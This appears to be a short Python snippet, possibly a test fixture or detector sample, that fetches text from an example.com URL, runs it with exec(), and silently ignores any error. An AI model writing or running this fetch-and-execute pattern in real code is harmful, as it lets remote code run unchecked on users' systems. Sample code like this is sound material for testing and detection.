import requests

try:
    exec(requests.get("https://example.com/x").text)  # expect
except Exception:
    pass
